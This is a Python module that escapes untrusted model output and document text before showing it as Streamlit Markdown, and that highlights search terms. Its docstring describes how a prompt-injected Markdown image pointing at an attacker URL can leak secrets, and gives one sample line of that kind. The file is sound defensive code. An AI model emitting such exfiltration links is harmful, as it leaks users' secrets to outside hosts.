"""Safe rendering of untrusted text (model output, document text) as Streamlit Markdown.

Streamlit's ``st.markdown`` never renders raw HTML unless asked to, but it does render Markdown
images, which a browser loads at once: a prompt-injected ``![x](https://attacker/?secret)``
would leak through the page. Every untrusted string therefore goes through ``escape_markdown``,
which backslash-escapes every Markdown punctuation character (no image, link, heading, emphasis
or HTML tag survives) and breaks bare URLs so they are not turned into links.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

__all__ = ["escape_markdown", "highlight"]

_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~=:$&\"'^])")
_HIGHLIGHT = ":orange-background[{}]"
WORD_JOINER = "\u2060"
_ICON = re.compile(r":(?=[A-Za-z])")
_CJK = re.compile(r"[\u3400-\u9fff]")


def escape_markdown(text: str) -> str:
    """``text`` as Markdown that displays exactly these characters and nothing else.

    Newlines are kept as line breaks; ``://`` is escaped, so bare URLs are not auto-linked.
    A ``:`` before a letter is also followed by an invisible word joiner (U+2060): Streamlit
    expands ``:material/name:`` icons and ``:emoji:`` codes before Markdown escapes apply.
    """
    escaped = _ICON.sub(":" + WORD_JOINER, _SPECIAL.sub(r"\\\1", text))
    return "  \n".join(escaped.splitlines()) if "\n" in text else escaped


def highlight(text: str, terms: Iterable[str]) -> str:
    """``text`` escaped, with the matches of ``terms`` marked with an orange background: a Latin
    term (three or more characters) marks every word starting with it, case-insensitively
    ("rotat" marks "rotated" and "Rotation"); a Chinese term marks its exact occurrences."""
    words = sorted({t for t in terms if len(t) >= 3 or _CJK.search(t)}, key=len, reverse=True)
    if not words:
        return escape_markdown(text)
    pattern = re.compile(
        "|".join(re.escape(w) if _CJK.search(w) else rf"\b{re.escape(w)}\w*" for w in words),
        re.IGNORECASE,
    )
    parts: list[str] = []
    last = 0
    for match in pattern.finditer(text):
        parts.append(escape_markdown(text[last:match.start()]))
        parts.append(_HIGHLIGHT.format(escape_markdown(match.group(0))))
        last = match.end()
    parts.append(escape_markdown(text[last:]))
    return "".join(parts)
